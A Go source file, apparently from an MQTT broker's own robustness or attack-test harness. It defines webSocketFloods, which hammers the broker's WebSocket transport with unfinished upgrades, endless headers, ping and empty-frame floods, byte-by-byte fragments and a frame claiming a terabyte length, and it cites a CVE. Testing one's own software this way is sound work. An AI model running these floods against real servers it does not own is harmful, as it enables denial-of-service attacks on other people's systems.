package main

import (
	"bytes"
	"encoding/binary"
	"fmt"
	"strings"
	"time"

	"edge/broker/packets"
)

const upgradeRequest = "GET /mqtt HTTP/1.1\r\nHost: edge\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n" +
	"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Protocol: mqtt\r\n\r\n"

// webSocketFloods begins upgrades and does not end them, sends headers without end, and floods sessions with what costs a frame
// and carries nothing (CVE-2026-48779 and its kind).
func webSocketFloods(a *attacker) {
	for i := range a.many(200, 800) {
		a.dial(packets.V4).raw([]byte(upgradeRequest[:i%len(upgradeRequest)]))
	}
	for range a.many(20, 200) {
		f := a.dial(packets.V4)
		f.raw([]byte(upgradeRequest[:20] + "X: " + strings.Repeat("x", 9<<10)))
		f.Close()
	}
	publish := (&packets.Publish{Topic: "ws", Payload: make([]byte, 100)}).Append(nil, packets.V4)
	crumbs := frame(0x02, publish[:1])
	for _, b := range publish[1:] {
		crumbs = append(crumbs, frame(0x00, []byte{b})...)
	}
	floods := [][]byte{
		bytes.Repeat(frame(0x89, make([]byte, 125)), 200),                                             // pings whose answers nobody reads
		bytes.Repeat(frame(0x82, nil), 2000),                                                          // empty messages
		append(frame(0x02, publish), bytes.Repeat(frame(0x00, nil), 2000)...),                         // empty fragments
		bytes.Repeat(append(crumbs, frame(0x80, nil)...), 10),                                         // a byte in each
		append([]byte{0x82, 0xff, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0}, bytes.Repeat(publish, 100)...), // a message of a terabyte
		frame(0x81, []byte("text")),
	}
	a.repeat(func(worker, n int) {
		f := a.dial(packets.V4)
		defer f.Close()
		f.raw([]byte(upgradeRequest))
		connect := &packets.Connect{Version: packets.V4, ClientID: fmt.Sprintf("ws%d-%d", worker, n), CleanStart: true}
		f.raw(frame(0x82, connect.Append(nil, packets.V4)))
		for i := 0; i < 20 && (i == 0 || time.Now().Before(a.until)) && f.raw(floods[n%len(floods)]); i++ {
		}
	})
}

// frame is one WebSocket frame, masked by zeros.
func frame(first byte, payload []byte) []byte {
	b := []byte{first, 0x80 | byte(len(payload))}
	if len(payload) > 125 {
		b[1] = 0x80 | 126
		b = binary.BigEndian.AppendUint16(b, uint16(len(payload)))
	}
	return append(append(b, 0, 0, 0, 0), payload...)
}
